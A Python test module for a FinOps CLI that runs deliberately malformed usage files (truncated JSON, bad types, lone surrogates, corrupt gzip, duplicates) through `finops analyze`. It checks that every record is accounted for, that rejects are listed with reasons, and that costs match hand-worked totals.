"""Hostile input, end to end through `finops analyze` (issue 7): nothing lost, nothing leaked, a clear answer.

Every case in tests/hostile/<format>/ is run through the command line. For each one the expected counts,
rejects and totals below were worked out by hand from the case file (the comments give the arithmetic), and
the run must:
  - end with a clear message: exit 0 with the bad rows counted, or exit 1 with one line when nothing is usable;
  - account for every record: read = loaded + rejected + duplicates, each reject in rejects.csv with its file,
    line and reason;
  - leave the totals of the good rows unchanged: equal to the hand-worked figures and to a run over a file that
    holds the good lines alone.
Prices used by hand (list, $ per million tokens, on 2026-08/09): claude-sonnet-4-6 input 3, output 15; batch
halves both. So N input + N/10 output tokens cost N x 4.5e-6 (batch N x 2.25e-6).
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import random
import re
import runpy
import shutil
import subprocess
import sys
import tempfile
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pytest
from budget import DEEP
from click.testing import CliRunner, Result
from finops.ingest import common
from helpers import load_files
from hypothesis import given
from hypothesis import strategies as st

from finops import ingest, overview
from finops.cli import cli
from finops.report import money

HOSTILE = Path(__file__).parent / "hostile"
MARKER = "PROMPT-MARKER-9d1e"  # planted in every prompt, answer and thinking block of the corpus
FAST_OFF = {"FINOPS_NO_FAST_PATH": "1"}  # Claude Code transcripts: the Python reference reader


# ---- running the command -------------------------------------------------------------------------------


def analyze(*paths: Path, out: Path, formats: str = "json", env: dict[str, str] | None = None,
            extra: tuple[str, ...] = ()) -> Result:
    runner = CliRunner(env={"COLUMNS": "100", **(env or {})})
    return runner.invoke(cli, ["analyze", *map(str, paths), "-o", str(out), "--format", formats, *extra])


def report_of(out: Path) -> dict[str, Any]:
    return json.loads((out / "report.json").read_text(encoding="utf-8"))


def rejects_of(out: Path) -> list[tuple[str, int, str]]:
    path = out / "rejects.csv"
    if not path.exists():
        return []
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["file", "line", "reason"]
    return [(file, int(line), reason) for file, line, reason in rows[1:]]


def assert_clear_failure(result: Result, *fragments: str) -> None:
    """Exit 1 with exactly one line, starting 'Error: ', and no traceback."""
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.output.startswith("Error: ") and result.output.count("\n") == 1, result.output
    assert "Traceback" not in result.output
    for fragment in fragments:
        assert fragment in result.output, result.output


def totals_key(report: dict[str, Any]) -> tuple[Any, ...]:
    t = report["totals"]
    return (t["requests"], t["input_tokens"], t["cache_write_5m_tokens"], t["cache_write_1h_tokens"],
            t["cache_read_tokens"], t["output_tokens"], t["list_cost_usd"], t["billed_cost_usd"])


# ---- the cases -----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    """One hostile run. counts: file -> (read, loaded, rejected, duplicate, ignored lines)."""

    files: tuple[str, ...]
    counts: dict[str, tuple[int, int, int, int, int]]
    rejects: dict[str, dict[int, str]] = field(default_factory=dict)  # file -> line -> reason prefix
    tokens: tuple[int, int] = (0, 0)  # input, output of the good rows (no cache tokens in the corpus)
    requests: int = 0
    cost: str = "0"  # billed cost of the good rows, by hand
    unpriced: dict[str, int] = field(default_factory=dict)
    good: dict[str, tuple[int, ...]] = field(default_factory=dict)  # file -> its good lines (CSV: header too)
    errors: dict[str, str] = field(default_factory=dict)  # file -> file-level error fragment
    notes: dict[str, str] = field(default_factory=dict)  # file -> note fragment
    period: tuple[str, str] | None = None

    @property
    def format(self) -> str:
        return self.files[0].split("/")[0]


BAD_JSON = "invalid JSON: truncated or malformed line"
NOT_UNICODE = "is not valid Unicode text: it holds a lone surrogate"
CASES: dict[str, Case] = {
    # ---- claude_code ----------------------------------------------------------------------------------
    # 1, 4, 8 good (1000/100, 2000/200, 3000/300); 2 a user turn and 9 blank: ignored; 3 and 10 cut short,
    # 5 cut before any keyword, 6 text, 7 "}{": rejected. 6000 x 4.5e-6 = 0.027.
    "cc_truncated": Case(
        ("claude_code/truncated.jsonl",), {"claude_code/truncated.jsonl": (8, 3, 5, 0, 2)},
        {"claude_code/truncated.jsonl": {3: BAD_JSON, 5: BAD_JSON, 6: BAD_JSON, 7: BAD_JSON, 10: BAD_JSON}},
        (6000, 600), 3, "0.027", good={"claude_code/truncated.jsonl": (1, 4, 8)}),
    # 1 good (1000/100), 6 good (input "2000" and output 200.0 are whole numbers); 7 (message is a string) and
    # 13 (an array) carry no usage: ignored; the other nine are rejected. 3000 x 4.5e-6 = 0.0135.
    "cc_wrong_types": Case(
        ("claude_code/wrong_types.jsonl",), {"claude_code/wrong_types.jsonl": (11, 2, 9, 0, 2)},
        {"claude_code/wrong_types.jsonl": {
            2: "input_tokens is not a number: 'abc'", 3: "output_tokens is not a whole number: 1.5",
            4: "usage is not an object", 5: "input_tokens is not a number: True",
            8: "timestamp out of range: 12345", 9: "ephemeral_5m_input_tokens is not a number: 'x'",
            10: "costUSD is not an amount: 'lots'", 11: "costUSD is implausibly large",
            12: "timestamp is not a timestamp: list"}},
        (3000, 300), 2, "0.0135", good={"claude_code/wrong_types.jsonl": (1, 6)}),
    # 1 good (1000/100) and 9 good with zero tokens; negative, NaN, Infinity, 10^14, a thinking count over the
    # output, 10^11 input for one request and a 5,000-digit number are rejected. 1000 x 4.5e-6 = 0.0045.
    "cc_negative_absurd": Case(
        ("claude_code/negative_absurd.jsonl",), {"claude_code/negative_absurd.jsonl": (10, 2, 8, 0, 0)},
        {"claude_code/negative_absurd.jsonl": {
            2: "input_tokens is negative: -5", 3: "output_tokens is implausibly large",
            4: "input_tokens is not a whole number: nan", 5: "output_tokens is not a whole number: inf",
            6: "cache_read_input_tokens is negative: -1", 7: "thinking_tokens 500 exceed output_tokens 100",
            8: "implausible for one request", 10: BAD_JSON}},
        (1000, 100), 2, "0.0045", good={"claude_code/negative_absurd.jsonl": (1, 9)}),
    # 1 (1000/100) and 5 (500/50, no ids: keyed by file and line) priced; 6 (10/1) has no model: unpriced;
    # 7 (no usage) is not a record; 8 has no type but its message is a response (role, usage, id, model): priced
    # (1/1). Priced 1500 x 4.5e-6 + 1 x 3e-6 + 1 x 15e-6 = 0.00675 + 0.000018 = 0.006768.
    "cc_missing_fields": Case(
        ("claude_code/missing_fields.jsonl",), {"claude_code/missing_fields.jsonl": (7, 4, 3, 0, 1)},
        {"claude_code/missing_fields.jsonl": {2: "missing timestamp", 3: "missing output_tokens",
                                              4: "missing input_tokens"}},
        (1511, 152), 4, "0.006768", {"(no model given)": 1},
        good={"claude_code/missing_fields.jsonl": (1, 5, 6, 8)}),
    # Unknown models are loaded and listed as unpriced, never priced at $0: only line 1 is priced.
    "cc_unknown_model": Case(
        ("claude_code/unknown_model.jsonl",), {"claude_code/unknown_model.jsonl": (3, 3, 0, 0, 0)}, {},
        (6000, 600), 3, "0.0045", {"claude-imaginary-9": 1, "gpt-4o": 1}),
    # Seven readable times (Z, +02:00, naive, epoch s, epoch ms, 2026/09/01, -05:00 with nanoseconds), all on
    # 2026-09-01 between 00:00 (the bare date) and 10:30 UTC (12:30+02:00); 7 x 100 x 4.5e-6 = 0.00315.
    "cc_timestamps": Case(
        ("claude_code/timestamps.jsonl",), {"claude_code/timestamps.jsonl": (12, 7, 5, 0, 0)},
        {"claude_code/timestamps.jsonl": {7: "timestamp is not a timestamp", 8: "timestamp is not a timestamp",
                                          9: "timestamp is not a timestamp", 10: "timestamp out of range",
                                          11: "timestamp is not a timestamp"}},
        (700, 70), 7, "0.00315", good={"claude_code/timestamps.jsonl": (1, 2, 3, 4, 5, 6, 12)},
        period=("2026-09-01T00:00:00Z", "2026-09-01T10:30:00Z")),
    "cc_bom_crlf": Case(
        ("claude_code/bom_crlf.jsonl",), {"claude_code/bom_crlf.jsonl": (4, 3, 1, 0, 0)},
        {"claude_code/bom_crlf.jsonl": {3: BAD_JSON}}, (6000, 600), 3, "0.027",
        good={"claude_code/bom_crlf.jsonl": (1, 2, 4)}),
    # Line 2 has a Latin-1 byte inside a string: read as Latin-1 and loaded; line 3 starts with two stray bytes.
    "cc_latin1": Case(
        ("claude_code/latin1.jsonl",), {"claude_code/latin1.jsonl": (3, 2, 1, 0, 0)},
        {"claude_code/latin1.jsonl": {3: BAD_JSON}}, (3000, 300), 2, "0.0135",
        good={"claude_code/latin1.jsonl": (1, 2)}),
    # Line 2 nests 5,000 arrays deep (json raises RecursionError, not ValueError); line 3 nests 900 deep in a
    # field nobody reads and is a good record.
    "cc_deep_nesting": Case(
        ("claude_code/deep_nesting.jsonl",), {"claude_code/deep_nesting.jsonl": (3, 2, 1, 0, 0)},
        {"claude_code/deep_nesting.jsonl": {2: "invalid JSON"}}, (3000, 300), 2, "0.0135",
        good={"claude_code/deep_nesting.jsonl": (1, 3)}),
    # A complete gzip member of two records, then a member cut short: both records, then a file error.
    "cc_truncated_gzip": Case(
        ("claude_code/truncated.jsonl.gz",), {"claude_code/truncated.jsonl.gz": (2, 2, 0, 0, 0)}, {},
        (3000, 300), 2, "0.0135",
        errors={"claude_code/truncated.jsonl.gz": "reading stopped after 2 records: Compressed file ended"}),
    # a: 1 (1000/100), 2 and 3 the same response (10/1 then 2000/200: the bigger one is kept), 4 (3000/300);
    # b: 1 and 3 again (dropped: a sorts first), 4 new (4000/400). 10,000 x 4.5e-6 = 0.045.
    "cc_duplicates": Case(
        ("claude_code/dup_a.jsonl", "claude_code/dup_b.jsonl"),
        {"claude_code/dup_a.jsonl": (4, 3, 0, 1, 0), "claude_code/dup_b.jsonl": (3, 1, 0, 2, 0)}, {},
        (10000, 1000), 4, "0.045",
        good={"claude_code/dup_a.jsonl": (1, 3, 4), "claude_code/dup_b.jsonl": (3,)}),
    # A JSON escape of a lone surrogate ("\\ud800") is no Unicode text: the record holding one in a kept field is
    # rejected, the others load. 1 (1000/100) and 4 (2000/200, a valid surrogate pair in its session id) good;
    # 2 (session id) and 5 (model) rejected; 3, a user turn with one in its text, is not a record.
    # 3000 x 4.5e-6 = 0.0135.
    "cc_surrogate": Case(
        ("claude_code/surrogate.jsonl",), {"claude_code/surrogate.jsonl": (4, 2, 2, 0, 1)},
        {"claude_code/surrogate.jsonl": {2: "session_id " + NOT_UNICODE, 5: "model " + NOT_UNICODE}},
        (3000, 300), 2, "0.0135", good={"claude_code/surrogate.jsonl": (1, 4)}),
    # Lines written without a top-level "type" used to vanish. Read when the message says it is a response: 1 (id,
    # model, 1000/100) and 2 (model, no id: keyed by file and line; 2000/200), 6 (no timestamp: rejected); not
    # when it is ambiguous: 3 (neither id nor model), 4 (role user), 5 (type user). 7 is typed (3000/300).
    # 6000 x 4.5e-6 = 0.027.
    "cc_untyped": Case(
        ("claude_code/untyped.jsonl",), {"claude_code/untyped.jsonl": (4, 3, 1, 0, 3)},
        {"claude_code/untyped.jsonl": {6: "missing timestamp"}}, (6000, 600), 3, "0.027",
        good={"claude_code/untyped.jsonl": (1, 2, 7)}),
    # ---- anthropic_log --------------------------------------------------------------------------------
    # 1, 3, 7 good; 4 blank (not a record); 2, 5, 6, 8 rejected.
    "log_truncated": Case(
        ("anthropic_log/truncated.jsonl",), {"anthropic_log/truncated.jsonl": (7, 3, 4, 0, 0)},
        {"anthropic_log/truncated.jsonl": {2: BAD_JSON, 5: BAD_JSON, 6: BAD_JSON, 8: BAD_JSON}},
        (6000, 600), 3, "0.027", good={"anthropic_log/truncated.jsonl": (1, 3, 7)}),
    # 1 (1000/100) and 6 (2000/200: a request that is not an object and a metadata list are tolerated) good.
    "log_wrong_types": Case(
        ("anthropic_log/wrong_types.jsonl",), {"anthropic_log/wrong_types.jsonl": (13, 2, 11, 0, 0)},
        {"anthropic_log/wrong_types.jsonl": {
            2: "input_tokens is not a number: 'abc'", 3: "missing response", 4: "missing usage in response",
            5: "output_tokens is not a number: list", 7: "timestamp is not a timestamp: dict",
            8: "metadata.cost_usd is not an amount: 'free'", 9: "metadata.cost_usd is implausibly large",
            10: "max_tokens is not a number: 'many'", 11: "invalid JSON: nested too deeply",
            12: "line is not a JSON object", 13: "line is not a JSON object"}},
        (3000, 300), 2, "0.0135", good={"anthropic_log/wrong_types.jsonl": (1, 6)}),
    "log_negative_absurd": Case(
        ("anthropic_log/negative_absurd.jsonl",), {"anthropic_log/negative_absurd.jsonl": (8, 2, 6, 0, 0)},
        {"anthropic_log/negative_absurd.jsonl": {
            2: "input_tokens is negative", 3: "output_tokens is implausibly large",
            4: "cache_read_input_tokens is negative", 5: "implausible for one request",
            6: "ephemeral_5m_input_tokens is negative", 7: "input_tokens is not a whole number: inf"}},
        (1000, 100), 2, "0.0045", good={"anthropic_log/negative_absurd.jsonl": (1, 8)}),
    # 1 (1000/100), 4 (500/50, no request: model from the response), 8 (600/60, no metadata) priced; 9 (10/1,
    # no model anywhere) unpriced. Priced 2100 x 4.5e-6 = 0.00945. An error response is not billed: rejected.
    "log_missing_fields": Case(
        ("anthropic_log/missing_fields.jsonl",), {"anthropic_log/missing_fields.jsonl": (9, 4, 5, 0, 0)},
        {"anthropic_log/missing_fields.jsonl": {
            2: "missing timestamp", 3: "missing response", 5: "not billed: error response (overloaded_error)",
            6: "missing usage in response", 7: "missing output_tokens"}},
        (2110, 211), 4, "0.00945", {"(no model given)": 1},
        good={"anthropic_log/missing_fields.jsonl": (1, 4, 8, 9)}),
    "log_unknown_model": Case(
        ("anthropic_log/unknown_model.jsonl",), {"anthropic_log/unknown_model.jsonl": (3, 3, 0, 0, 0)}, {},
        (6000, 600), 3, "0.0045", {"claude-imaginary-9": 1, "<b>bold</b>-model": 1}),
    # Good: Z, +05:30, naive, epoch seconds with a fraction, " UTC"; between 08:00 and 10:00:00.5 UTC.
    "log_timestamps": Case(
        ("anthropic_log/timestamps.jsonl",), {"anthropic_log/timestamps.jsonl": (9, 5, 4, 0, 0)},
        {"anthropic_log/timestamps.jsonl": {5: "timestamp is not a timestamp: 'yesterday'",
                                            6: "timestamp is not a timestamp", 7: "timestamp out of range",
                                            8: "missing timestamp"}},
        (500, 50), 5, "0.00225", good={"anthropic_log/timestamps.jsonl": (1, 2, 3, 4, 9)},
        period=("2026-09-01T08:00:00Z", "2026-09-01T10:00:00.500000Z")),
    # A cost stated in EUR is not kept as USD; both rows are priced from tokens: 3000 x 4.5e-6.
    "log_currency": Case(
        ("anthropic_log/currency.jsonl",), {"anthropic_log/currency.jsonl": (2, 2, 0, 0, 0)}, {},
        (3000, 300), 2, "0.0135", notes={"anthropic_log/currency.jsonl": "1 row(s) state cost_usd in EUR"}),
    # 1 (1000/100, a lone surrogate in its prompt: never stored, only hashed) and 3 (2000/200) good; 2 (workspace)
    # and 4 (stop reason) rejected. 3000 x 4.5e-6 = 0.0135.
    "log_surrogate": Case(
        ("anthropic_log/surrogate.jsonl",), {"anthropic_log/surrogate.jsonl": (4, 2, 2, 0, 0)},
        {"anthropic_log/surrogate.jsonl": {2: "workspace " + NOT_UNICODE, 4: "stop_reason " + NOT_UNICODE}},
        (3000, 300), 2, "0.0135", good={"anthropic_log/surrogate.jsonl": (1, 3)}),
    "log_bom_crlf": Case(
        ("anthropic_log/bom_crlf.jsonl",), {"anthropic_log/bom_crlf.jsonl": (4, 3, 1, 0, 0)},
        {"anthropic_log/bom_crlf.jsonl": {3: BAD_JSON}}, (6000, 600), 3, "0.027",
        good={"anthropic_log/bom_crlf.jsonl": (1, 2, 4)}),
    "log_latin1": Case(
        ("anthropic_log/latin1.jsonl",), {"anthropic_log/latin1.jsonl": (3, 2, 1, 0, 0)},
        {"anthropic_log/latin1.jsonl": {3: BAD_JSON}}, (3000, 300), 2, "0.0135",
        good={"anthropic_log/latin1.jsonl": (1, 2)}),
    "log_truncated_gzip": Case(
        ("anthropic_log/truncated.jsonl.gz",), {"anthropic_log/truncated.jsonl.gz": (2, 2, 0, 0, 0)}, {},
        (3000, 300), 2, "0.0135",
        errors={"anthropic_log/truncated.jsonl.gz": "reading stopped after 2 records: Compressed file ended"}),
    # a: 1000/100 and 2000/200; b: both again (dropped) and 3000/300.
    "log_duplicates": Case(
        ("anthropic_log/dup_a.jsonl", "anthropic_log/dup_b.jsonl"),
        {"anthropic_log/dup_a.jsonl": (2, 2, 0, 0, 0), "anthropic_log/dup_b.jsonl": (3, 1, 0, 2, 0)}, {},
        (6000, 600), 3, "0.027", good={"anthropic_log/dup_a.jsonl": (1, 2), "anthropic_log/dup_b.jsonl": (3,)}),
    # ---- anthropic_batch (batch rates: N x 2.25e-6) ----------------------------------------------------
    "batch_truncated": Case(
        ("anthropic_batch/truncated.jsonl",), {"anthropic_batch/truncated.jsonl": (5, 2, 3, 0, 0)},
        {"anthropic_batch/truncated.jsonl": {2: BAD_JSON, 4: BAD_JSON, 5: BAD_JSON}}, (3000, 300), 2, "0.00675",
        good={"anthropic_batch/truncated.jsonl": (1, 3)}),
    # 1 (1000/100) and 11 (3000/300, +02:00) priced: 4000 x 2.25e-6 = 0.009; 9 (2000/200) unknown model.
    "batch_mixed": Case(
        ("anthropic_batch/results_mixed.jsonl",), {"anthropic_batch/results_mixed.jsonl": (13, 3, 10, 0, 0)},
        {"anthropic_batch/results_mixed.jsonl": {
            2: "not billed: batch result errored", 3: "not billed: batch result expired",
            4: "not billed: batch result canceled", 5: "missing result", 6: "missing result.message",
            7: "input_tokens is not a number: 'x'", 8: "output_tokens is negative: -3",
            10: "timestamp is not a timestamp: 'not a time'", 12: "usage is not an object", 13: "missing result"}},
        (6000, 600), 3, "0.009", {"claude-imaginary-9": 1},
        good={"anthropic_batch/results_mixed.jsonl": (1, 9, 11)}),
    # No timestamps: dated by the file's modification time (set to 2026-09-01 by the test), and said so.
    "batch_undated": Case(
        ("anthropic_batch/undated.jsonl",), {"anthropic_batch/undated.jsonl": (2, 2, 0, 0, 0)}, {},
        (3000, 300), 2, "0.00675",
        notes={"anthropic_batch/undated.jsonl": "dated by the file's modification time"},
        period=("2026-09-01T12:00:00Z", "2026-09-01T12:00:00Z")),
    # 1 good (1000/100 at batch rates: 1000 x 2.25e-6 = 0.00225); 2 (custom_id) rejected; 3's result type is a
    # lone surrogate: not billed, rejected with the value escaped.
    "batch_surrogate": Case(
        ("anthropic_batch/surrogate.jsonl",), {"anthropic_batch/surrogate.jsonl": (3, 1, 2, 0, 0)},
        {"anthropic_batch/surrogate.jsonl": {2: "request_id " + NOT_UNICODE, 3: "not billed: batch result \\ud800"}},
        (1000, 100), 1, "0.00225", good={"anthropic_batch/surrogate.jsonl": (1,)}),
    "batch_bom_crlf": Case(
        ("anthropic_batch/bom_crlf.jsonl",), {"anthropic_batch/bom_crlf.jsonl": (3, 2, 1, 0, 0)},
        {"anthropic_batch/bom_crlf.jsonl": {2: BAD_JSON}}, (3000, 300), 2, "0.00675",
        good={"anthropic_batch/bom_crlf.jsonl": (1, 3)}),
    "batch_latin1": Case(
        ("anthropic_batch/latin1.jsonl",), {"anthropic_batch/latin1.jsonl": (2, 2, 0, 0, 0)}, {},
        (3000, 300), 2, "0.00675"),
    "batch_corrupt_gzip": Case(
        ("anthropic_batch/corrupt.jsonl.gz",), {"anthropic_batch/corrupt.jsonl.gz": (2, 2, 0, 0, 0)}, {},
        (3000, 300), 2, "0.00675",
        errors={"anthropic_batch/corrupt.jsonl.gz": "reading stopped after 2 records: Not a gzipped file"}),
    "batch_duplicates": Case(
        ("anthropic_batch/dup_a.jsonl", "anthropic_batch/dup_b.jsonl"),
        {"anthropic_batch/dup_a.jsonl": (2, 2, 0, 0, 0), "anthropic_batch/dup_b.jsonl": (2, 1, 0, 1, 0)}, {},
        (6000, 600), 3, "0.0135",
        good={"anthropic_batch/dup_a.jsonl": (1, 2), "anthropic_batch/dup_b.jsonl": (2,)}),
    # ---- anthropic_usage_report (buckets: no request counts; August, so never the logs' days) -----------
    # Results are numbered in document order. Bucket 10 Aug: 1 good (1000/100), 2 negative, 3 no uncached
    # input, 4 a string, 5 unknown model (2000/200); 6 a bucket whose results are not a list; 7 a bucket that
    # ends before it starts; 8 (3000/300, offsets +02:00) good; 9 not a bucket. Priced 4000 x 4.5e-6 = 0.018.
    "report_bad_rows": Case(
        ("anthropic_usage_report/bad_rows.json",), {"anthropic_usage_report/bad_rows.json": (9, 3, 6, 0, 0)},
        {"anthropic_usage_report/bad_rows.json": {
            2: "output_tokens is negative: -1", 3: "missing uncached_input_tokens", 4: "result is not an object",
            6: "bucket has no results list", 7: "ending_at is not after starting_at",
            9: "bucket has no results list"}},
        (6000, 600), 0, "0.018", {"claude-imaginary-9": 1},
        period=("2026-08-10T00:00:00Z", "2026-08-11T23:59:59.999999Z")),  # buckets end just before 12 Aug
    # One page per line: 1 (1000/100) and 4 (2000/200) good; 2 cut short, 3 and 6 not pages; 5 blank.
    "report_pages": Case(
        ("anthropic_usage_report/pages.jsonl",), {"anthropic_usage_report/pages.jsonl": (5, 2, 3, 0, 0)},
        {"anthropic_usage_report/pages.jsonl": {2: "invalid JSON: truncated or malformed page",
                                                3: "page has no data list", 6: "page has no data list"}},
        (3000, 300), 0, "0.0135", good={"anthropic_usage_report/pages.jsonl": (1, 4)}),
    # One bucket of two results: 1 good (1000/100); 2 has a lone surrogate in its workspace id: rejected.
    "report_surrogate": Case(
        ("anthropic_usage_report/surrogate.json",), {"anthropic_usage_report/surrogate.json": (2, 1, 1, 0, 0)},
        {"anthropic_usage_report/surrogate.json": {2: "workspace " + NOT_UNICODE}}, (1000, 100), 0, "0.0045"),
    "report_bom_crlf": Case(
        ("anthropic_usage_report/bom_crlf.json",), {"anthropic_usage_report/bom_crlf.json": (1, 1, 0, 0, 0)},
        {}, (1000, 100), 0, "0.0045"),
    "report_latin1": Case(
        ("anthropic_usage_report/latin1.json",), {"anthropic_usage_report/latin1.json": (1, 1, 0, 0, 0)},
        {}, (1000, 100), 0, "0.0045"),
    # The same page exported twice (b adds 11 Aug): the 10 Aug bucket counts once.
    "report_duplicates": Case(
        ("anthropic_usage_report/dup_a.json", "anthropic_usage_report/dup_b.json"),
        {"anthropic_usage_report/dup_a.json": (1, 1, 0, 0, 0), "anthropic_usage_report/dup_b.json": (2, 1, 0, 1, 0)},
        {}, (3000, 300), 0, "0.0135"),
    # ---- console_usage_csv ------------------------------------------------------------------------------
    # Good: 2 (1000/100), 6 ("2,000"/200), 10 (3000/300), 12 (10/1, unknown model); 8 blank. Line 9 opens a
    # quote it never closes: only that line is rejected, the rows after it are still read.
    "csv_bad_rows": Case(
        ("console_usage_csv/bad_rows.csv",), {"console_usage_csv/bad_rows.csv": (10, 4, 6, 0, 0)},
        {"console_usage_csv/bad_rows.csv": {
            3: "expected 14 fields, found 4", 4: "usage_input_tokens_no_cache is not a number: 'n/a'",
            5: "usage_output_tokens is negative: -7", 7: "usage_date_utc is not a timestamp: '08/10/2026'",
            9: "expected 14 fields, found 3", 11: "expected 14 fields, found 16"}},
        (6010, 601), 0, "0.027", {"claude-imaginary-9": 1},
        good={"console_usage_csv/bad_rows.csv": (1, 2, 6, 10, 12)}),
    # Columns reordered, capitalised, and extra ones (a cost in EUR, notes): read by name, cost ignored.
    "csv_reordered_extra": Case(
        ("console_usage_csv/reordered_extra.csv",), {"console_usage_csv/reordered_extra.csv": (2, 2, 0, 0, 0)},
        {}, (3000, 300), 0, "0.0135"),
    "csv_bom_crlf": Case(
        ("console_usage_csv/bom_crlf.csv",), {"console_usage_csv/bom_crlf.csv": (2, 2, 0, 0, 0)}, {},
        (3000, 300), 0, "0.0135"),
    # Workspaces "Caf\xe9" (Latin-1) and "Def\x00ault" (a NUL): all three rows load.
    "csv_latin1_nul": Case(
        ("console_usage_csv/latin1.csv",), {"console_usage_csv/latin1.csv": (3, 3, 0, 0, 0)}, {},
        (6000, 600), 0, "0.027"),
    "csv_bad_crc_gzip": Case(
        ("console_usage_csv/bad_crc.csv.gz",), {"console_usage_csv/bad_crc.csv.gz": (1, 1, 0, 0, 0)}, {},
        (1000, 100), 0, "0.0045",
        errors={"console_usage_csv/bad_crc.csv.gz": "reading stopped after 1 records: corrupt gzip data"}),
    # Overlapping exports: 11 Aug in both, kept once.
    "csv_duplicates": Case(
        ("console_usage_csv/dup_a.csv", "console_usage_csv/dup_b.csv"),
        {"console_usage_csv/dup_a.csv": (2, 2, 0, 0, 0), "console_usage_csv/dup_b.csv": (2, 1, 0, 1, 0)}, {},
        (6000, 600), 0, "0.027",
        good={"console_usage_csv/dup_a.csv": (1, 2, 3), "console_usage_csv/dup_b.csv": (1, 3)}),
}

# Cases where nothing is usable: exit 1 with one line that says why.
FAILURES: dict[str, tuple[str, tuple[str, ...], int]] = {  # file -> (message fragments, rejects written)
    "claude_code/empty.jsonl": ("no usable input: 1 file(s) skipped", (), 0),
    "claude_code/blank.jsonl": ("no usable input: 1 file(s) skipped", (), 0),
    "claude_code/binary.jsonl": ("no usable input: 1 file(s) skipped", (), 0),
    # Two user turns and a summary: a transcript without one response says why nothing was read.
    "claude_code/user_turns_only.jsonl": (
        "no usable input: 0 record(s) read", ("3 line(s) ignored: none is a usage record",), 0),
    "anthropic_log/empty.jsonl": ("no usable input: 1 file(s) skipped", (), 0),
    "console_usage_csv/not_console.csv": ("no usable input: 1 file(s) skipped", ("finops formats",), 0),
    "console_usage_csv/header_only.csv": ("no usable input: 0 record(s) read", (), 0),
    "console_usage_csv/missing_column.csv": (
        "no usable input: 2 record(s) read", ("missing columns (2)", "usage_output_tokens", "rejects.csv"), 2),
    "console_usage_csv/renamed.csv": (
        "no usable input: 2 record(s) read", ("missing columns: usage_date_utc, model_version",), 2),
    "anthropic_usage_report/truncated.json": (
        "no usable input: 1 record(s) read", ("invalid JSON (1)", "rejects.csv"), 1),
    "anthropic_usage_report/truncated.json.gz": (
        "no usable input: 0 record(s) read", ("reading stopped after 0 records",), 0),
}


def _stage(case: Case, root: Path) -> list[Path]:
    """Copy a case's files (fixed modification time: batch results without timestamps are dated by it)."""
    paths = []
    for rel in case.files:
        target = root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(HOSTILE / rel, target)
        os.utime(target, (1_788_264_000, 1_788_264_000))  # 2026-09-01T12:00:00Z
        paths.append(target)
    return paths


def _good_alone(case: Case, root: Path) -> list[Path]:
    """Files holding only the good lines of each case file (CSV: the header is line 1)."""
    paths = []
    for rel, lines in case.good.items():
        raw = (HOSTILE / rel).read_bytes().split(b"\n")
        target = root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(b"\n".join(raw[n - 1] for n in lines) + b"\n")
        paths.append(target)
    return paths


def _case_params() -> list[Any]:
    """Every case, and under CI every transcript case again with the Python reference reader. In `make test` the
    fast path alone: tests/test_fast_readers.py already checks that it gives the reference's rows, rejects and
    accounting on every hostile transcript, and the rest of a run does not depend on the reader (13 whole runs,
    about 6 CPU-s)."""
    params = []
    for name, case in CASES.items():
        params.append(pytest.param(name, None, id=name))
        if case.format == "claude_code" and DEEP:  # the fast path and the Python reader agree
            params.append(pytest.param(name, FAST_OFF, id=f"{name}-python"))
    return params


@pytest.mark.parametrize(("name", "env"), _case_params())
def test_hostile_case(name: str, env: dict[str, str] | None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    case = CASES[name]
    paths = _stage(case, tmp_path / "in")
    out = tmp_path / "out"
    result = analyze(*paths, out=out, env=env)
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    report = report_of(out)
    staged = {str(tmp_path / "in" / rel): rel for rel in case.files}

    # Every record accounted for, file by file.
    inputs = {staged[i["path"]]: i for i in report["inputs"]}
    assert set(inputs) == set(case.files) and report["skipped"] == []
    for rel, (read, loaded, rejected, duplicate, ignored) in case.counts.items():
        i = inputs[rel]
        assert i["format"] == case.format
        assert i["rows_read"] == i["rows_loaded"] + i["rows_rejected"] + i["rows_duplicate"]
        assert (i["rows_read"], i["rows_loaded"], i["rows_rejected"], i["rows_duplicate"],
                i["lines_ignored"]) == (read, loaded, rejected, duplicate, ignored), rel
        assert (case.errors.get(rel) or "") in (i["error"] or ""), i["error"]
        assert (i["error"] is None) == (rel not in case.errors)
        if rel in case.notes:
            assert case.notes[rel] in " ".join(i["notes"]), i["notes"]

    # Each reject in rejects.csv with its file, line and reason, and nothing else.
    got: dict[str, dict[int, str]] = {}
    for file, line, reason in rejects_of(out):
        got.setdefault(staged[file], {})[line] = reason
    assert {f: set(lines) for f, lines in got.items()} == {f: set(lines) for f, lines in case.rejects.items()}
    for rel, lines in case.rejects.items():
        for line, reason in lines.items():
            assert got[rel][line].startswith(reason), (rel, line, got[rel][line])
    assert sum(i["rows_rejected"] for i in report["inputs"]) == len(rejects_of(out))
    summary = f"{sum(c[0] for c in case.counts.values())} read = {sum(c[1] for c in case.counts.values())} loaded"
    assert summary in result.output

    # The good rows' totals, worked out by hand.
    t = report["totals"]
    assert (t["input_tokens"], t["output_tokens"], t["cache_write_5m_tokens"], t["cache_write_1h_tokens"],
            t["cache_read_tokens"]) == (*case.tokens, 0, 0, 0)
    assert t["requests"] == case.requests
    assert Decimal(t["billed_cost_usd"]) == Decimal(case.cost) == Decimal(t["list_cost_usd"])
    assert {u["model"]: u["rows"] for u in report["unpriced"]} == case.unpriced
    if case.period:
        assert (report["period"]["start"], report["period"]["end"]) == case.period

    # ... and the same totals as a run over the good lines alone: read, priced and totalled as `analyze` does
    # (finops/pipeline.py), without the analyses and the report, which the run above already went through.
    if case.good:
        with monkeypatch.context() as m:
            for key, value in (env or {}).items():
                m.setenv(key, value)
            con, clean = load_files(*_good_alone(case, tmp_path / "alone" / "in"), price=True)
        t = overview.totals(con)
        con.close()
        assert (t.requests, t.input_tokens, t.cache_write_5m_tokens, t.cache_write_1h_tokens, t.cache_read_tokens,
                t.output_tokens, money(t.list_cost), money(t.billed_cost)) == totals_key(report)
        assert sum(f.rows_rejected for f in clean.files) == 0


